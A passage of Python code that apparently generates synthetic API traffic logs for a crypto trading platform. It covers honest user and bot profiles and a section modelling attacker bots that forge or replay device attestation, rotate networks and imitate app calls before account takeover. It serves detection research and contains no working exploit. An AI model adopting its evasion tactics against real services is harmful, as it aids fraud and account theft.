            m, route, status, query = "POST", "/graphql", (200 if 400 <= status < 500 and status != 429 and r.random() < .8 or status < 400 else status), f"op={op.title()}Query"
        elif self.style == "rpc" and g in ("app", "auth", "mkt"):
            m = "POST"
        elif route:
            query = "&".join(f"{n}={self.value(n, ids)}" for n in names if n not in ("page", "cursor", "to", "limit") or r.random() < .6)
            if g == "trade" and self.signed and c.user and op not in ("t.time", "t.info", "t.book", "t.trades", "t.klines", "t.tick"):
                query += ("&" if query else "") + f"timestamp={int(t * 1000 - r.lognormvariate(4, .8))}&signature={self.hexid(32)}"
        if bad:
            first, _, rest = query.partition("&")
            query = (first.split("=")[0] or "q") + "=" + bad + ("&" + rest if rest else "")
        e = {"time": t, "http.request.method": m, "url.path": path, "http.response.status_code": status, "client.address": c.ip}
        put = lambda f, v: v not in (None, "") and self.log[f] and e.__setitem__(f, v)
        put("url.query", query)
        put("http.route", route)
        put("server.address", self.host[g])
        put("user_agent.original", c.ua)
        put("http.request.id", self.hexid(20))
        put("http.request.size", int(r.lognormvariate(0, .25) * (2400000 if op == "kycup" else 5200 if op == "tele" else 420 if m in ("POST", "PUT") else 0)) or None)
        if status in (204, 304) or size < 1:
            put("http.response.size", 0)
        else:
            put("http.response.size", int(r.lognormvariate(math.log(size), .3)) if status < 300 else 15 + int(r.lognormvariate(math.log(150 if status < 500 else 420), .25)))
        put("http.server.request.duration", round(r.lognormvariate(math.log(ms * slow * (.6 if 300 <= status < 500 and op != "login" else 1)), .45) / 1000, 4))
        if auth and status != 401 and g not in ("www", "ops", "hook"):
            put("user.id", c.user)
            put("session.id", c.sess if c.user else None)
        if g not in ("www", "ops", "hook"):
            put("device.id", c.device)
            put("api.client", c.client)
            put("app.version", c.ver)
        if op in ("login", "signup", "forgot"):
            put("login.subject", subj or c.email)
        put("geo.country", c.net[4])
        if self.log["geo.location"]:
            k = c.v6pre if ":" in c.ip else c.ip[:c.ip.rfind(".")]
            if k not in self.geo:
                self.geo[k] = [round(x + r.gauss(0, s), 3) for x, s in zip(CENTRE[c.net[4]], (1.1, 1.6))]
            e["geo.location.lat"], e["geo.location.lon"] = self.geo[k]
        put("network.asn", c.net[0])
        put("tls.client.ja4", JA4[c.stack or "curl"])
        if g not in ("www", "ops", "hook"):
            self.attest(c, t, e)
        if op in ("login", "signup", "forgot") and c.client == f"{self.code}-web":
            put("captcha.score", round(min(1, max(0, r.betavariate(1.6, 2) if tool or r.random() < .06 else r.betavariate(7, 1.5))), 1))
        put("waf.score", r.choice([5, 5, 10, 15, 3, 20]) if (bad or path.rstrip("~").removesuffix(".bak") in RARE) and r.random() < .8 else r.choice([2, 3, 5]) if r.random() < .012 else 0)
        self.keep(c, t, e)
        return status

    def keep(self, c, t, e):
        label, kind, inst = self.label
        self.events.append((t, e, {"label": label, "kind": kind, "instance": inst, "caller": c.name, "platform": c.platform}, c.user))
        self.count[kind] = self.count.get(kind, 0) + 1

    def unreadable(self, c, t):
        if self.t0 <= t < self.t1:
            self.keep(c, t, {"time": t, "http.request.method": "_OTHER", "url.path": self.r.choice(["", "", "*"]), "http.response.status_code": 400, "client.address": c.ip})

    def fill(self, route, c, ids):
        if "{" not in route:
            return route
        r = self.r
        own = {"uid": c.user, "acct": c.acct, "ord": r.choice(c.orders) if c.orders else None, "slug": self.slug, "day": dt.datetime.utcfromtimestamp(self.t0 - 86400 * r.randint(0, 3)).strftime("%Y-%m-%d")}
        for n in ("uid", "acct", "ord", "stmt", "wd", "tr", "sym", "coin", "slug", "code", "day"):
            if "{" + n + "}" in route:
                v = ids.get(n) or own.get(n) or (self.sym() if n == "sym" else r.choice(COINS) if n == "coin" else r.choice(self.codes) if n == "code" else self.newid(n))
                route = route.replace("{" + n + "}", v)
        return route

    def sym(self):
        return self.symfmt.format(COINS[min(int(self.r.paretovariate(.7)) - 1, len(COINS) - 1)])

    def value(self, n, ids):
        r = self.r
        if n in ids:
            return ids[n]
        return {"symbol": self.sym, "limit": lambda: r.choice([20, 50, 100, 500]), "interval": lambda: r.choice(["1m", "5m", "1h", "1d"]), "q": lambda: r.choice(COINS)[:r.randint(2, 4)].lower(), "side": lambda: r.choice(["BUY", "SELL"]),
                "type": lambda: r.choice(["LIMIT", "LIMIT", "MARKET"]), "orderId": lambda: self.newid("ord"), "email": self.mail, "coin": lambda: r.choice(COINS), "page": lambda: r.randint(1, 4), "year": lambda: r.choice([2022, 2023, 2024]),
                "status": lambda: r.choice(["open", "all"]), "sort": lambda: r.choice(["pnl", "roi"]), "symbols": lambda: ",".join(self.sym() for _ in range(4)), "network": lambda: r.choice(["erc20", "trc20", "native"]),
                "to": lambda: int(self.t0 * 1000) + r.randrange(10 ** 7), "amount": lambda: round(r.lognormvariate(0, 2), 4), "address": lambda: "0x" + self.hexid(40)}.get(n, lambda: int(self.t0 * 1000) - r.randrange(10 ** 10))()

    def attest(self, c, t, e):
        """What the verifier said; c.att is the caller's nature, see device() and the attacks."""
        r, a = self.r, c.att
        if a is None or a == "none":
            if self.says_none:
                e["attestation.status"] = "none"
            return
        if t >= c.token_end or self.once:
            if a != "replay":
                c.token = self.hexid(24)
            c.token_end = t + self.ttl
        s = {"rooted": "failed", "rom": "missing", "emulator": "failed", "strip": "missing", "forge": "failed"}.get(a, "genuine")
        if a == "clock" and r.random() < .7 or a == "replay" and r.random() < .25 or a == "stale":
            s = "expired"
        if s == "genuine" and self.att0 <= t < self.att1 and f"-{self.attplat}-" in (c.client or ""):
            s = self.attst if r.random() < .85 else s
        if s == "genuine" and r.random() < self.flaky:
            s = r.choice(["missing", "missing", "failed", "expired"])
        e["attestation.status"] = s
        codes = {"failed": ["app-integrity", "device-integrity", "bad-signature"], "expired": ["token-expired"], "missing": ["no-token", "provider-error"]}
        if s in codes and self.log["attestation.code"]:
            e["attestation.code"] = r.choice(codes[s]) if s != "failed" or a != "rooted" else "device-integrity"
        if s != "missing":
            if self.log["attestation.issuer"]:
                e["attestation.issuer"] = "app"
            if self.log["attestation.token"]:
                e["attestation.token"] = c.token

# ---------------------------------------------------------------- honest life
VIEW = {"port": 5, "quote": 8, "quotes": 4, "candles": 5, "news": 2, "watch": 2, "search": 2, "orders": 2, "hist": 1.5, "notif": 1.5, "trader": .4, "leads": .4, "user": .5, "dep": .4, "stmts": .2, "stmt": .2, "launch": .3, "alert": .3, "addwatch": .4, "lookup": .35, "xfer": .25, "keys": .12, "mkkey": .03, "kyc": .1, "kycup": .04, "logout": .05}
TRADE = VIEW | {"order": 3, "preview": 4, "ord": 4, "cancel": 1, "book": 4, "withdraw": .15, "wstat": .3, "waddrs": .2}

def start(w, c, t, signin=.15):
    """Opens the app or the site: a sign-in or a refresh, then a burst of calls at once."""
    r = w.r
    w.move(c)
    c.sess = w.hexid(24)
    if c.platform in ("android", "ios") and c.att == "genuine" and t > w.release and c.ver == w.vers[0] and r.random() < .04 + .5 * (t - w.release) / 172800:
        c.ua, c.ver = c.ua.replace(c.ver, w.vers[1]), w.vers[1]
    real = c.att
    if real == "genuine" and r.random() < w.stale:
        c.att = "stale"  # wakes with an old token; the next calls carry a new one
    w.emit(c, t, "cfg", auth=False)
    c.att, t = real, t + r.uniform(.05, .4)
    if r.random() < signin:
        tries = 0
        while tries < 4 and w.emit(c, t, "login") == 401:
            t, tries = t + w.think(8, .6), tries + 1
        t += w.think(1, .3)
        if r.random() < .6:
            w.emit(c, t, "otpsend")
            t += w.think(14, .5)
            w.emit(c, t, "otp")
    else:
        w.emit(c, t, "refresh")
    t += r.uniform(.1, .6)
    for op in r.sample(["me", "port", "quotes", "watch", "notif", "stream", "devreg"] if c.platform != "web" else ["me", "port", "quotes", "watch", "stream", "orders"], r.randint(3, 5)):
        w.emit(c, t + r.uniform(0, .3), op)
    if c.ver == w.vers[1] and r.random() < .7:  # the new release asks for a summary of each holding
        for _ in range(r.randint(2, 6)):
            w.emit(c, t + r.uniform(.2, .9), "insight")
    return t + 1

def visit(w, c, t=None, n=None, mix=VIEW, mid=6, signin=.15):
    """One honest session. Failed calls are tried again by the app, harder during an outage."""
    r, t = w.r, w.when(c.land) if t is None else t
    t, ops, wts = start(w, c, t, signin), list(mix), list(mix.values())
    sym = w.sym()
    for _ in range(n or 2 + int(r.lognormvariate(1.8, .8))):
        t += w.think(mid)
        if r.random() < .3:
            sym = w.sym()
        op, back = r.choices(ops, wts)[0], 1
        s = w.emit(c, t, op, sym=sym)
        if op == "order" and s == 201:
            c.orders = (c.orders + [w.newid("ord")])[-12:]
        while s in (429, 500, 502, 503, 504) and back < 40 and r.random() < .75:
            t, back = t + back * r.uniform(.7, 1.3), back * 2
            s = w.emit(c, t, op, sym=sym)
        if s == 401:
            w.emit(c, t + .1, "refresh")
        if r.random() < .12:
            w.emit(c, t + r.uniform(.1, 5), "tele")
    return t

def h_people(platform=None, size=300, net=None, mix=VIEW, mid=6, signin=.15, att=None, n=None):
    def go(w, kind):
        c = w.person(kind, size, platform, net)
        if att and c.att not in (att, "none"):
            c.att = att
        visit(w, c, mix=mix, mid=mid, signin=signin, n=n)
    return go

def h_terminal(w, kind):
    """A day trader leaves the terminal open: it polls while he trades by hand."""
    c, r = w.person(kind, 25, "web"), w.r
    t = start(w, c, w.when(c.land), .5)
    end, every, sym = t + r.uniform(600, 5400), r.choice([2, 3, 5, 10]), w.sym()
    while t < end:
        t += every * r.uniform(.97, 1.05)
        w.emit(c, t, r.choices(["book", "quote", "orders", "candles"], [5, 3, 2, 1])[0], sym=sym)
        if r.random() < .08:
            w.emit(c, t + r.uniform(.2, 1.5), r.choice(["order", "cancel", "preview", "ord", "port"]), sym=sym)

def h_algo(pattern, size, period, burst, runs=(60, 350), net="cloud", lazy=.3, jitter=.05, ua=None, prefix="ak_"):
    """A key that repeats a round of calls every so often; most of what a public trading API sees."""
    def go(w, kind):
        r, c = w.r, w.key(kind, size, net, ua, prefix)
        every = period * r.lognormvariate(0, lazy)
        n, t, syms = r.randint(*runs), w.any(), [w.sym() for _ in range(r.randint(1, 6))]
        w.emit(c, t, "t.time" if prefix == "ak_" else "p.list")
        while n > 0 and t < w.t1:
            rest = 1
            for op in pattern:
                for _ in range(r.randint(1, burst)):
                    s, n, t = w.emit(c, t, op, symbol=r.choice(syms)), n - 1, t + r.uniform(.03, .25)
                    rest = max(rest, 6 if s in (429, 503) and r.random() < .6 else 1)
            t += every * rest * r.uniform(1 - jitter, 1 + jitter)
    return go

def h_many_keys(ops, keys, per, gap, ua):
    """A tax or portfolio service, or a copy desk: one or two addresses read or trade for hundreds of customers' keys."""
    def go(w, kind):
        r, me, t = w.r, w.key(kind + "-host", 2, "cloud", ua), w.any()
        ks = w.pools.setdefault(kind, [])
        while len(ks) < keys:
            ks.append(w.ident(Caller("", "server", client="ak_" + w.hexid(12))))
        for k in r.sample(ks, min(len(ks), r.randint(15, 60))):
            c = Caller(me.name, "server", user=k.user, acct=k.acct, client=k.client, ua=me.ua, stack=me.stack, net=me.net, ip=me.ip)
            for op in ops:
                for _ in range(r.randint(1, per)):
                    w.emit(c, t, op, 401 if r.random() < .01 else None)
                    t += r.uniform(.02, .2)
            t += r.expovariate(1 / gap)
    return go

def keyed(size, nets=("cloud",), uas=None, anonymous=0.0):
    """Who: the holder of a key, a server, or a machine without a key."""
    def who(w, kind):
        c = w.key(kind, size, w.r.choice(nets), w.pools.setdefault(kind + "/ua", w.r.choice(uas)) if uas else None)
        if w.r.random() < anonymous:
            c.user = c.client = c.acct = None
        return c
    return who

def h_loop(who, lo, hi, gap, step):
    """A caller who does one thing again and again; s is the run's own draw."""
    def go(w, kind):
        c, t, s = who(w, kind), w.any(), w.r.random()
        for i in range(w.r.randint(lo, hi)):
            t += gap(w, s)
            step(w, c, t, i, s)
    return go

def s_backfill(w, c, t, i, s):
    """Years of candles, window after window, as fast as the limit allows."""
    w.emit(c, t, "t.trades" if s < .3 else "t.klines", 429 if w.r.random() < .04 else None, symbol=w.symfmt.format(COINS[int(s * 25)]), startTime=1500000000000 + 30000000 * i, limit=1000)

def s_broken(w, c, t, i, s):
    """A hobby script whose clock or secret is wrong asks on and on."""
    w.emit(c, t, ["t.acct", "t.order", "t.open", "t.fills"][int(s * 4)], [400, 401, 403][int(s * 97) % 3] if w.r.random() < .97 else None)

def s_developer(w, c, t, i, s):
    """Reads the manual and tries every call, wrongly at first."""
    if w.r.random() < .12:
        w.emit(c, t, "t.acct", 404, path=w.tpre + "/" + w.r.choice(["orders/test", "accounts", "position", "balance", "symbol", "v1/order", "markets"]))
    else:
        w.emit(c, t, w.r.choice([o for o in w.ops if o.startswith("t.")]), w.r.choice([400, 400, 401, 403]) if w.r.random() < .35 else None)

def s_crawler(w, c, t, i, s):
    w.emit(c, t, "w.rob" if i == 0 else w.r.choices(["w.price", "w.blog", "w.map", "w.home", "leads", "quotes"], [6, 4, .3, .5, .4, .4])[0], slug=w.r.choice(COINS).lower() + w.r.choice(["", "", "-usd", "-guide"]), auth=False)

def s_monitor(w, c, t, i, s):
    if w.r.random() < .02:
        w.unreadable(c, t)  # the balancer's bare TCP probe
    w.emit(c, t, "login" if i % 10 == 9 else "hz", 200, auth=False)

def s_hooks(w, c, t, i, s):
    if w.emit(c, t, w.r.choice(["hook.c", "hook.c", "hook.p"])) >= 500:
        w.emit(c, t + 30, "hook.p")

def s_scan(w, c, t, i, s):
    """The contracted scanner's weekly run, from its own declared address."""
    if w.r.random() < .04:
        w.unreadable(c, t)
    w.emit(c, t, "hz", w.r.choices([404, 403, 400], [8, 1, .4])[0], path=w.rare(), auth=False)

def s_widget(w, c, t, i, s):
    """A watch or a home-screen widget asks for prices every few minutes, day and night."""
    w.emit(c, t, "quotes", symbols=",".join(w.symfmt.format(x) for x in COINS[int(s * 20):int(s * 20) + 3]))

def s_qa(w, c, t, i, s):
    """Our own testers on emulators, from headquarters, with unlucky inputs."""
    w.emit(c, t, w.r.choice(["login", "signup", "order", "cancel", "withdraw", "redeem", "search", "otp", "addaddr"]), w.r.choice([None, None, 400, 422, 401]), subj=f"qa{w.r.randint(1, 40)}@{w.brand.lower()}.test")

def widget(w, kind):
    c = w.person(kind, 25)
    c.platform, c.att, c.ua, c.client = "device", "none", f"{w.brand}-Widget/{c.ver} ({['wearOS 4', 'watchOS 10.4', 'iOS 17'][len(c.email) % 3]})", f"{w.code}-widget"
    return c

def tester(w, kind):
    c = w.person(kind, 8, "android", "hq")
    c.att = "emulator" if c.att != "none" else "none"
    return c

def staff(w, kind, size):
    c = w.person(kind, size, "web", w.r.choice(["hq", "hq", "hq", "home"]))
    c.client, c.land, c.sess = f"{w.code}-backoffice", w.hq[0][0][4], w.hexid(24)
    return c

def h_support(w, kind):
    """One customer after another; on quiet days a report."""
    r, c = w.r, staff(w, kind, 14)
    t = w.when(c.land)
    for _ in range(r.randint(3, 14)):
        u, t = r.randrange(400000), t + w.think(60)
        w.emit(c, t, "ad.find")
        for op in r.choices(["ad.cust", "ad.led", "ad.note", "ad.doc", "ad.lim", "ad.exp"], [5, 3, 3, 1, .3, .15], k=r.randint(2, 6)):
            t += w.think(14)
            w.emit(c, t, op, uid=w.newid("uid", u), acct=w.newid("acct", u))

def h_compliance(w, kind):
    """Periodic review: hundreds of customers in a row, one call each, a queue in order of ids."""
    r, c = w.r, staff(w, kind, 3)
    t, u = w.when(c.land), r.randrange(300000)
    for _ in range(r.randint(40, 160)):
        t, u = t + w.think(5, .5), u + r.randint(1, 9)
        w.emit(c, t, r.choice(["ad.cust", "ad.cust", "ad.led", "ad.doc"]), uid=w.newid("uid", u), acct=w.newid("acct", u), stmt=w.newid("stmt", u))

def h_traveller(w, kind):
    c = w.person(kind, 30)
    if w.r.random() < .5:
        w.settle(c, w.r.choice(list(LANDS)), w.r.choice(["carrier", "home", "vpn"]))
    visit(w, c, signin=.5)

def h_new_phone(w, kind):
    c = w.person(kind, 60)
    t = visit(w, c) + w.r.uniform(600, 20000)
    w.device(c, w.r.choice(["android", "ios"]), w.vers[0])
    t = visit(w, c, t, signin=1)
    for op in ("waddrs", "addaddr", "withdraw") if w.r.random() < .5 else ():
        t += w.think(25)
        w.emit(c, t, op)

def h_forgetful(w, kind):
    r, c = w.r, w.person(kind, 60, w.r.choice([None, "web"]))
    t = w.when(c.land)
    w.move(c)
    for _ in range(r.randint(3, 14)):
        t += w.think(11, .6)
        w.emit(c, t, "login", 401, subj=c.email if r.random() < .8 else w.mail())
    if r.random() < .3:
        w.emit(c, t + 5, "login", r.choice([423, 429]))
    if r.random() < .7:
        w.emit(c, t + 20, "forgot", auth=False)
        t += w.think(90)
        w.emit(c, t, "reset", auth=False)
        for _ in range(r.randint(1, 5)):
            t += w.think(15)
            w.emit(c, t, "otpsend")
            w.emit(c, t + 12, "otp", 401 if r.random() < .5 else 200)
        visit(w, c, t + 15, n=4)

def h_signup(w, kind):
    r, c = w.r, w.person(kind, 1, w.r.choice([None, "web"]), fresh=True)
    t = w.when(c.land)
    w.emit(c, t, "cfg", auth=False)
    for op in ("signup", "otpsend", "otp", "kyc", "kycup", "kycup", "kyc", "kyc", "dep", "quotes", "preview"):
        t += w.think(22)
        if w.emit(c, t, op, auth=op not in ("signup", "otpsend")) in (422, 409, 413):
            w.emit(c, t + w.think(12), op)
        if r.random() < .07:
            return

def h_visitor(w, kind):
    """Looks around without an account, on the site or in the app."""
    c = w.person(kind, 400, w.r.choice([None, "web"]))
    w.move(c)
    t, look = w.when(c.land), {"quotes": 3, "quote": 4, "candles": 3, "book": 2, "search": 2, "leads": 1, "trader": 1.5, "news": 2} | ({"w.home": 2, "w.price": 3, "w.blog": 2} if c.platform == "web" else {"cfg": 1})
    for _ in range(w.r.randint(2, 14)):
        t += w.think(9)
        w.emit(c, t, w.r.choices(list(look), list(look.values()))[0], slug=w.r.choice(COINS).lower(), auth=False)

def h_retry_storm(w, kind):
    """Clients without back-off: fixed retries through the outage, all at once when it is over."""
    c = w.person(kind, 260)
    t, op = w.out0 + w.r.random() * (w.out1 - w.out0 + 300), w.r.choice(["port", "refresh", "quotes", "orders", "login"])
    for _ in range(w.r.randint(6, 40)):
        if w.emit(c, t, op) < 300 and t > w.out1:
            break
        t += w.r.uniform(.9, 3.2)

def h_sale(w, kind):
    """Everybody presses the button when the token sale opens."""
    c = w.person(kind, 500, w.r.choice([None, None, "web"]))
    t = start(w, c, w.sale - w.r.expovariate(1 / 240), .3)
    while t < w.sale + 3 and w.r.random() < .93:
        t += w.think(6, .6)
        w.emit(c, t, "launch")
    t = max(t, w.sale + w.r.expovariate(1 / 25))
    for _ in range(w.r.randint(1, 9)):
        if w.emit(c, t, "sub", w.r.choice([201, 409, 422, 429, 429, 503])) == 201:
            break
        t += w.think(1.2, .7)

def h_crash(w, kind):
    visit(w, w.person(kind, 500, w.r.choice([None, None, "web"])), w.crash + w.r.expovariate(1 / 1500), mix={"quote": 5, "port": 6, "order": 5, "cancel": 2, "orders": 3, "candles": 2, "withdraw": .4}, mid=2.2)

def h_alert(w, kind):
    """A push goes out: hundreds open the same page within a minute."""
    t, sym = w.when("US"), w.sym()
    for _ in range(w.r.randint(25, 90)):
        c = w.person(kind, 400)
        at = start(w, c, t + w.r.expovariate(1 / 40), .03)
        w.emit(c, at, "quote", sym=sym)
        w.emit(c, at + w.think(3), "candles", sym=sym)

def h_packets(w, kind):
    """Hunters of give-away codes posted in chats: honest, quick, and mostly too late."""
    c = w.person(kind, 70, w.r.choice([None, "web"]), w.r.choice([None, "vpn"]))
    t = start(w, c, w.when(c.land), .1)
    for _ in range(w.r.randint(3, 18)):
        t += w.think(9, .8)
        w.emit(c, t, "redeem", w.r.choices([200, 409, 410, 404, 429], [2, 2, 6, 3, .4])[0], code=w.r.choice(w.codes) if w.r.random() < .8 else w.code_text())

def h_household(w, kind):
    """A family, or a man with five accounts, on one device."""
    c = w.person(kind, 25)
    ids = w.pools.setdefault("of " + c.name, [w.ident(Caller("", "")) for _ in range(4)])
    for _ in range(w.r.randint(2, 4)):
        k = w.r.choice(ids)
        c.user, c.acct, c.email = k.user, k.acct, k.email
        visit(w, c, n=4, signin=.8)

def h_wrapper(w, kind):
    """His own script signs in as the web does and reads his account through the app's API."""
    r, c = w.r, w.person(kind, 45, "web", w.r.choice(["home", "home", "cloud"]))
    k = int(c.acct[-1], 16)
    (c.ua, c.stack), c.client, c.device = TOOLS[k % len(TOOLS)], c.client if k % 2 else None, None
    t, c.sess, gap, ops = w.any(), w.hexid(24), r.choice([2, 20, 60, 300]), r.sample(["port", "hist", "orders", "quotes", "leads", "trader", "stmt", "ord", "search", "launch", "user", "redeem", "wstat", "news"], r.randint(1, 4))
    for _ in range(r.randint(1, 4)):
        if w.emit(c, t, "login", tool=True) == 200:
            break
        t += 3
    for i in range(r.randint(10, 150)):
        t += gap * r.uniform(.95, 1.15)
        if w.emit(c, t, ops[i % len(ops)]) == 401 or r.random() < .01:
            w.emit(c, t + .4, r.choice(["login", "refresh"]), tool=True)

def h_desktop(w, kind):
    c = w.person(kind, 25, "web")
    c.ua, c.client, c.stack = f"{w.brand}-Desktop/2.{len(c.email) % 7}.1 (win32) Electron/28.2.0", f"{w.code}-desktop", "chrome"
    visit(w, c, mix=TRADE, mid=3, n=w.r.randint(20, 120))

def h_accountant(w, kind):
    """The year's papers for the tax: every statement and every page of the ledger, quickly."""
    c = w.person(kind, 40, "web", w.r.choice(["office", "home"]))
    t, i = start(w, c, w.when(c.land), .7), w.r.randrange(400000)
    for _ in range(w.r.randint(12, 50)):
        t, i = t + w.think(1.8, .6), i + 1
        w.emit(c, t, w.r.choice(["stmt", "stmt", "hist", "stmts"]), stmt=w.newid("stmt", i))

MM = ["t.book", "t.order", "t.order", "t.cancel", "t.cancel", "t.open"]
BOTS = [("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "chrome"), ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "chrome"), ("CoinLedgerBot/1.2 (+https://coinledgerbot.org)", "go")]
PROBES = [("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "go"), ("Datadog/Synthetics", "node"), ("kube-probe/1.29", "go"), ("Blackbox Exporter/0.24.0", "go")]
HOOKS = [("Custodia-Webhooks/2.1", "java"), ("PayGate-Notify/1.0", "java"), ("node-fetch/1.0", "node")]
HONEST = {
    "mobile-retail": (14, h_people(size=700)), "mobile-trader": (7, h_people(size=120, mix=TRADE, mid=4)), "web-retail": (6, h_people("web", 250)), "carrier-nat-user": (5, h_people(size=500, net="carrier")),
    "office-nat-user": (4, h_people("web", 140, "office", TRADE)), "vpn-user": (2.5, h_people(size=70, net="vpn", signin=.4)), "vpn-web-user": (1.5, h_people("web", 60, "vpn", signin=.6)), "rented-server-trader": (1.5, h_people("web", 22, "cloud", TRADE, 4)), "tunnel-user": (2, h_people(size=60, net="cloud")), "own-wrapper": (3, h_wrapper), "rooted-phone": (1, h_people("android", 22, att="rooted")), "custom-rom": (1, h_people("android", 22, att="rom")),
    "clock-skew": (1, h_people(size=22, att="clock")), "emulator-user": (.8, h_people("android", 14, att="emulator", mix=TRADE)), "power-user": (3, h_people(size=8, mix=TRADE, mid=1.3, n=150)), "day-trader-terminal": (6, h_terminal),
    "algo-market-maker": (10, h_algo(MM, 5, 1.2, 2, (900, 2600))), "algo-momentum": (5, h_algo(["t.klines", "t.acct", "t.order"], 22, 60, 2, jitter=.01)), "algo-schedule": (1, h_algo(["t.tick", "t.order", "t.acct"], 25, 3600, 1, (30, 200), jitter=.001)),
    "algo-arbitrage": (6, h_algo(["t.book", "t.book", "t.tick", "t.order"], 9, 2.5, 3, (300, 1500), lazy=.8)), "algo-grid-at-home": (4, h_algo(["t.open", "t.order", "t.cancel", "t.tick"], 18, 12, 2, net="home")), "algo-on-carrier": (1.5, h_algo(["t.tick", "t.acct"], 8, 30, 1, net="carrier")),
    "market-data-poller": (3, h_algo(["t.tick", "t.trades", "t.book"], 14, 5, 3, (150, 700))), "partner-broker": (2.2, h_algo(["p.ord", "p.acc", "p.ord", "p.mk"], 4, 20, 3, (80, 400), ua=("Apache-HttpClient/5.3 (Java/17.0.10)", "java"), prefix="pk_")),
    "partner-batch": (2, h_algo(["p.list", "p.led", "p.led", "p.rep"], 3, 3, 8, (200, 600), ua=("python-requests/2.31.0", "python"), prefix="pk_")), "tax-service": (2.2, h_many_keys(["t.acct", "t.fills"], 260, 7, 4, ("KryptoTax-Sync/5.2", "java"))),
    "portfolio-tracker": (2, h_many_keys(["t.acct", "t.open"], 500, 1, 2, ("okhttp/4.12.0", "okhttp"))), "copy-trading-desk": (1.6, h_many_keys(["t.order"], 90, 1, .05, ("Go-http-client/2.0", "go"))),
    "history-backfill": (3, h_loop(keyed(9, ("cloud", "home"), anonymous=.3), 150, 700, lambda w, s: w.r.uniform(.25, .9) * (1 + s), s_backfill)), "broken-script": (1.5, h_loop(keyed(12, ("home", "cloud")), 40, 260, lambda w, s: [1, 5, 10, 60][int(s * 31) % 4] * w.r.uniform(.98, 1.1), s_broken)),
    "new-developer": (1.2, h_loop(keyed(20, ("home", "cloud")), 15, 60, lambda w, s: w.think(25), s_developer)), "declared-crawler": (1.6, h_loop(keyed(4, uas=BOTS, anonymous=1), 20, 120, lambda w, s: w.r.expovariate(1 / 6), s_crawler)),
    "uptime-monitor": (1.5, h_loop(keyed(3, uas=PROBES, anonymous=1), 60, 300, lambda w, s: [15, 30, 60][int(s * 3)] + w.r.uniform(-.05, .05), s_monitor)), "payment-webhook": (1.2, h_loop(keyed(4, uas=HOOKS, anonymous=1), 8, 70, lambda w, s: w.r.expovariate(1 / 20), s_hooks)),
    "authorised-scan": (.3, h_loop(keyed(1, uas=[("Mozilla/5.0 (compatible; SurfaceWatch/3.2; authorised scan)", "java")], anonymous=1), 40, 120, lambda w, s: w.r.uniform(.5, 4), s_scan)), "watch-widget": (1.5, h_loop(widget, 20, 130, lambda w, s: [60, 300, 300, 900][int(s * 4)] * w.r.uniform(.98, 1.3), s_widget)),
    "own-testers": (.6, h_loop(tester, 20, 90, lambda w, s: w.think(1.5), s_qa)), "support-staff": (1.8, h_support), "compliance-review": (1.2, h_compliance), "traveller": (1.2, h_traveller), "new-phone": (1.2, h_new_phone), "forgetful-user": (2.2, h_forgetful), "new-customer": (1.8, h_signup), "visitor": (2.5, h_visitor),
    "retry-storm": (2, h_retry_storm), "token-sale-rush": (2.5, h_sale), "market-crash": (3.5, h_crash), "push-alert-crowd": (1.5, h_alert), "give-away-hunter": (1.4, h_packets), "household": (1, h_household), "desktop-app": (1.5, h_desktop), "tax-season-accountant": (1, h_accountant)}

# ---------------------------------------------------------------- attacks
class Plan:
    """How one instance goes about it: when, from where and as whom."""

    def __init__(self, w, name, n, looks, spreads=None, paces=None, acct=False):
        r = w.r
        self.w, self.name, self.n, self.look = w, name, n, r.choice(looks.split())
        self.spread, self.pace = r.choice((spreads or "one few many").split()), r.choice((paces or "fast slow human").split())
        at = w.t0 + r.uniform(.06, .93) * (w.t1 - w.t0)
        self.land = w.land() if r.random() < .85 else r.choice(list(LANDS))
        gap, rough, reach = r.lognormvariate(-.7, 1), r.choice([.05, .5, 1]), min(w.t1 - at, r.uniform(.2, 2) * 86400)
        ts = []
        for _ in range(n):
            if self.pace == "human" and self.spread != "many":
                at += w.think(7) if r.random() < .97 else r.uniform(600, 7200)
            elif self.pace == "fast":
                at += gap * r.lognormvariate(0, rough)
            ts.append(w.when(self.land) if self.pace == "human" and self.spread == "many" else at + r.random() * reach if self.pace == "slow" else at)
        self.ts = sorted(w.t0 + (t - w.t0) % (w.t1 - w.t0) for t in ts)
        k = {"one": 1, "few": r.randint(3, 15), "many": max(8, int(n * r.uniform(.4, 1)))}[self.spread]
        self.net = r.choice({"one": "cloud cloud vpn home carrier", "few": "cloud vpn home mix", "many": "home mix carrier mix"}[self.spread].split())
        self.ua, self.good_tls = r.choice(TOOLS), r.random() < .7
        self.bots = [self.bot(i) for i in range(k)]
        for c in self.bots if acct else ():
            w.ident(c)

    def bot(self, i):
        w, r = self.w, self.w.r
        c = Caller(f"{self.name}/{i}", "server", land=self.land if r.random() < .7 else w.land())
        if self.look == "tool":
            c.ua, c.stack, c.client = self.ua[0], self.ua[1], r.choice([None, f"{w.code}-web"])
        elif self.look == "web":
            w.browser(c)
        else:
            c.att = "none"
            while c.att == "none":
                w.device(c, r.choice(["android", "android", "ios"]) if self.look in ("app", "replay") else "android", r.choice(w.vers[:1] * 3 + w.vers[2:3]))
            c.att = {"app": r.choice(["strip", "strip", "forge"]), "farm": "genuine", "repack": r.choice(["strip", "forge", "forge"]), "replay": "replay"}[self.look]
            c.token = hashlib.sha256(f"{self.name}{i % 3}".encode()).hexdigest()[:24]
        if self.look in ("web", "app", "replay"):
            c.stack, c.platform = c.stack if self.good_tls else self.ua[1], "server"
        w.settle(c, kind=self.net if self.net != "mix" else r.choice(["home", "home", "carrier", "vpn", "cloud"]))
        c.sess = w.hexid(24)
        return c

    def run(self, noise=0.0):
        """The requests' times and callers; careful imitators also make the calls the app makes around."""
        w, r = self.w, self.w.r
        for i, t in enumerate(self.ts):
            c = self.bots[i % len(self.bots)] if self.spread != "many" else r.choice(self.bots)
            if r.random() < .05:
                w.move(c)
            if self.look != "tool" and r.random() < noise:
                w.emit(c, t - r.uniform(.2, 2), r.choice(["cfg", "quotes", "me", "notif"]), auth=c.user is not None)
            yield i, t, c

def odds(w, **p):
    """A status by weight: odds(w, s401=30, s423=.5)."""
    return int(w.r.choices(list(p), list(p.values()))[0][1:])

def victim(w):
    return w.r.choice(w.pools[w.r.choice([k for k in ("mobile-retail", "web-retail", "mobile-trader") if w.pools.get(k)])])

def takeover(w, t, c, v, quick):
    """After a hit: look, prepare, and take the money out; the owner may notice."""
